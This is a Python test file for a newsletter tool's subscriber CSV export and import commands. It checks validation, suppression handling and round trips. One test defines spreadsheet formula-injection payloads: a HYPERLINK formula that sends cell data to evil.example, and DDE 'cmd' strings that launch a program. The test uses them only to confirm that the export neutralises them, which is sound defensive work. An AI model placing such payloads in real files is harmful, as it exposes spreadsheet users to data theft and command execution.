"""`digest subscribers export` and `import`: streaming CSV out and in, nothing changed on bad input."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import func, select

from digest.core.models import (
    Consent,
    ConsentSource,
    Subscription,
    SubscriptionStatus,
    SuppressionReason,
    TransactionalKind,
)
from digest.domain.subscribers.csv_io import EXPORT_COLUMNS
from digest.domain.suppression import suppress
from tests.support.apps import get_db_of
from tests.support.readers import load_newsletter, mails, subscription


def _csv(tmp_path: Path, text: str, name: str = "readers.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


def _subscriptions(app) -> int:  # type: ignore[no-untyped-def]
    with get_db_of(app).session() as session:
        return session.scalar(select(func.count()).select_from(Subscription)) or 0


def test_export_lists_every_subscription(app, runner) -> None:  # type: ignore[no-untyped-def]
    """The export has a header and one row per subscription with status, dates and sections."""
    load_newsletter(app)
    with get_db_of(app).session() as session:
        suppress(session, app.config, "alan@example.com", SuppressionReason.HARD_BOUNCE)
    result = runner.invoke(args=["subscribers", "export"])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[0] == ",".join(EXPORT_COLUMNS)
    rows = _rows(result.stdout)
    assert [r["email"] for r in rows] == [
        "ada@example.com", "grace@example.com", "alan@example.com", "katherine@example.com",
    ]
    grace = rows[1]
    assert grace["name"] == "Grace" and grace["newsletter"] == "weekly-model"
    assert grace["status"] == "confirmed" and grace["sections"] == "engineers;tools"
    assert grace["created_at"].endswith("+00:00") and grace["confirmed_at"]
    assert grace["unsubscribed_at"] == "" and grace["suppressed"] == ""
    assert rows[2]["suppressed"] == "hard_bounce"
    assert runner.invoke(args=["subscribers", "export", "--newsletter", "nope"]).exit_code == 1


def test_export_streams_across_batches(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """More readers than one fetch batch all come out, once each, in order."""
    load_newsletter(app)
    lines = ["email,name"] + [f"reader{n:04d}@example.org,Reader {n}" for n in range(1203)]
    assert runner.invoke(args=["subscribers", "import", str(_csv(tmp_path, "\n".join(lines)))]).exit_code == 0
    rows = _rows(runner.invoke(args=["subscribers", "export"]).stdout)
    assert len(rows) == 1207
    assert len({r["email"] for r in rows}) == 1207


def test_import_creates_readers_with_their_consent_source(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Valid rows become subscriptions in their status, each with a consent record of the given source."""
    load_newsletter(app)
    path = _csv(
        tmp_path,
        "email,name,status,sections,created_at,confirmed_at\n"
        "New@Example.org,New Reader,confirmed,news;tools,2025-03-01,2025-03-02T10:00:00+00:00\n"
        "gone@example.org,,unsubscribed,,2025-01-01,\n"
        "later@example.org,Later,pending,,,\n"
        "strasse@bücher.de,,,,,\n",
    )
    result = runner.invoke(args=["subscribers", "import", str(path), "--source", "form"])
    assert result.exit_code == 0, result.output
    assert "Importing" in result.stderr
    assert "Imported 4 subscription(s)" in result.stdout
    new = subscription(app, "new@example.org")
    assert new.status is SubscriptionStatus.CONFIRMED  # type: ignore[union-attr]
    assert new.subscriber.name == "New Reader"  # type: ignore[union-attr]
    assert [s.slug for s in new.sections] == ["news", "tools"]  # type: ignore[union-attr]
    assert new.confirmed_at.isoformat() == "2025-03-02T10:00:00+00:00"  # type: ignore[union-attr]
    [consent] = new.consents  # type: ignore[union-attr]
    assert consent.source is ConsentSource.FORM and consent.created_at.year == 2025
    gone = subscription(app, "gone@example.org")
    assert gone.status is SubscriptionStatus.UNSUBSCRIBED and gone.unsubscribed_at  # type: ignore[union-attr]
    assert gone.consents[0].withdrawn_at is not None  # type: ignore[union-attr]
    assert subscription(app, "later@example.org").status is SubscriptionStatus.PENDING  # type: ignore[union-attr]
    assert [m.kind for m in mails(app)] == [TransactionalKind.CONFIRM]  # the pending one is asked
    assert subscription(app, "strasse@bücher.de").status is SubscriptionStatus.CONFIRMED  # type: ignore[union-attr]


def test_a_broken_row_imports_nothing(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Any bad row is reported with its line number and the whole import changes nothing."""
    load_newsletter(app)
    path = _csv(
        tmp_path,
        "email,name,status,sections\n"
        "fine@example.org,Fine,,\n"
        "not-an-address,,,\n"
        "fine@example.org,Twice,,\n"
        "ok@example.org,,maybe,\n"
        "ok2@example.org,,,poetry\n"
        "jörg@example.org,,,\n"
        "ok3@example.org,,,,,\n",
    )
    before = _subscriptions(app)
    result = runner.invoke(args=["subscribers", "import", str(path)])
    assert result.exit_code == 1
    err = result.stderr
    assert "line 3: 'not-an-address'" in err
    assert "line 4: fine@example.org appears already on line 2" in err
    assert "line 5: status 'maybe' is not one of" in err
    assert "line 6: weekly-model has no section 'poetry'" in err
    assert "line 7: 'jörg@example.org'" in err
    assert "5 row(s) have problems, so nothing was imported" in err
    assert _subscriptions(app) == before


def test_skip_invalid_imports_the_rest(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """With --skip-invalid the good rows go in and the report counts the skipped ones."""
    load_newsletter(app)
    path = _csv(tmp_path, "email\nfine@example.org\nbroken\nalso@example.org\n")
    result = runner.invoke(args=["subscribers", "import", str(path), "--skip-invalid"])
    assert result.exit_code == 0
    assert "line 3: 'broken'" in result.stderr
    assert "Imported 2 subscription(s)" in result.stdout and "1 invalid (skipped)" in result.stdout
    assert subscription(app, "also@example.org") is not None


def test_suppressed_addresses_are_never_imported(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Bounced, complained and erased addresses are skipped, even marked confirmed in the file."""
    load_newsletter(app)
    with get_db_of(app).session() as session:
        suppress(session, app.config, "bounced@example.org", SuppressionReason.HARD_BOUNCE)
        suppress(session, app.config, "erased@example.org", SuppressionReason.ERASURE)
    path = _csv(tmp_path, "email,status\nBounced@example.org,confirmed\nerased@example.org,confirmed\nok@example.org,\n")
    result = runner.invoke(args=["subscribers", "import", str(path)])
    assert result.exit_code == 0
    assert "2 on the suppression list (skipped)" in result.stdout
    assert subscription(app, "bounced@example.org") is None
    assert subscription(app, "erased@example.org") is None


def test_existing_subscriptions_are_left_alone(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A file cannot resubscribe someone who unsubscribed here, nor rename a reader."""
    load_newsletter(app)
    runner.invoke(args=["subscribers", "import", str(_csv(tmp_path, "email,status\nleft@example.org,unsubscribed\n", "a.csv"))])
    path = _csv(tmp_path, "email,name,status\nleft@example.org,,confirmed\nada@example.com,Eve,confirmed\n", "b.csv")
    result = runner.invoke(args=["subscribers", "import", str(path)])
    assert "2 already there (left unchanged)" in result.stdout
    assert subscription(app, "left@example.org").status is SubscriptionStatus.UNSUBSCRIBED  # type: ignore[union-attr]
    assert subscription(app, "ada@example.com").subscriber.name == "Ada"  # type: ignore[union-attr]


def test_unusable_files_get_a_clear_message(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A file without an email column, an empty one or one not in UTF-8 is refused as a whole."""
    load_newsletter(app)
    no_email = _csv(tmp_path, "name,status\nAda,confirmed\n", "no-email.csv")
    result = runner.invoke(args=["subscribers", "import", str(no_email)])
    assert result.exit_code == 1 and "the header has no email column" in result.output
    empty = _csv(tmp_path, "", "empty.csv")
    assert "the file is empty" in runner.invoke(args=["subscribers", "import", str(empty)]).output
    latin = tmp_path / "latin.csv"
    latin.write_bytes("email,name\nj@example.org,J\u00f6rg\n".encode("latin-1"))
    result = runner.invoke(args=["subscribers", "import", str(latin)])
    assert result.exit_code == 1 and "line 2 is not UTF-8" in result.output
    unknown = runner.invoke(args=["subscribers", "import", str(no_email), "--newsletter", "nope"])
    assert unknown.exit_code == 1 and "There is no newsletter 'nope'" in unknown.output
    with get_db_of(app).session() as session:
        assert session.scalar(select(func.count()).select_from(Consent)) == 4


def test_export_then_import_round_trips(app, runner, tmp_path: Path, app_overrides) -> None:  # type: ignore[no-untyped-def]
    """What one instance exports, another imports into the same state."""
    load_newsletter(app)
    runner.invoke(args=["subscribers", "import", str(_csv(tmp_path, "email,status\nleft@example.org,unsubscribed\n", "a.csv"))])
    exported = runner.invoke(args=["subscribers", "export"]).stdout
    with get_db_of(app).session() as session:
        session.execute(Subscription.__table__.delete())
    path = tmp_path / "export.csv"
    path.write_text(exported)
    assert runner.invoke(args=["subscribers", "import", str(path)]).exit_code == 0
    again = runner.invoke(args=["subscribers", "export"]).stdout
    assert again == exported
    assert _subscriptions(app) == 5


FORMULAS = {
    "formula@example.org": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus@example.org": "+cmd|' /C calc'!A0",
    "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus@example.org": "-2+3",
    "-2+3@example.org": "Plain",
}


def _formula_file(tmp_path: Path) -> Path:
    rows = "".join(f'{email},"{name.replace(chr(34), chr(34) * 2)}"\n' for email, name in FORMULAS.items())
    return _csv(tmp_path, "email,name\n" + rows, "formulas.csv")


def test_export_neutralises_formulas_and_imports_them_back(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A name or address a spreadsheet would run as a formula is exported as text (a leading
    apostrophe, as OWASP advises), and importing the export gives back the original values."""
    load_newsletter(app)
    assert runner.invoke(args=["subscribers", "import", str(_formula_file(tmp_path))]).exit_code == 0
    exported = runner.invoke(args=["subscribers", "export"]).stdout
    rows = {r["email"].removeprefix("'"): r for r in _rows(exported)}
    for email, name in FORMULAS.items():
        cells = [rows[email]["email"], rows[email]["name"]]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
        assert rows[email]["name"] in (name, f"'{name}")
    assert rows["formula@example.org"]["name"] == "'" + FORMULAS["formula@example.org"]
    with get_db_of(app).session() as session:
        session.execute(Subscription.__table__.delete())
    path = tmp_path / "export.csv"
    path.write_text(exported)
    assert runner.invoke(args=["subscribers", "import", str(path)]).exit_code == 0
    for email, name in FORMULAS.items():
        assert subscription(app, email).subscriber.name == name  # type: ignore[union-attr]
    assert runner.invoke(args=["subscribers", "export"]).stdout == exported


def test_a_file_with_carriage_returns_alone_is_refused_clearly(app, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A CSV whose lines end with CR alone (the old Mac format) gets a one-line message saying
    so and how to fix it, no traceback, and imports nothing; CRLF line ends are fine."""
    load_newsletter(app)
    path = tmp_path / "mac.csv"
    path.write_bytes(b"email,name\rada@example.org,Ada\rnew@example.org,New\r")
    result = runner.invoke(args=["subscribers", "import", str(path)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)  # no crash
    assert "line 1 ends with a carriage return alone" in result.output and "Traceback" not in result.output
    assert subscription(app, "new@example.org") is None
    windows = tmp_path / "windows.csv"
    windows.write_bytes(b"email,name\r\nnew@example.org,New Reader\r\n")
    assert runner.invoke(args=["subscribers", "import", str(windows)]).exit_code == 0
    assert subscription(app, "new@example.org") is not None
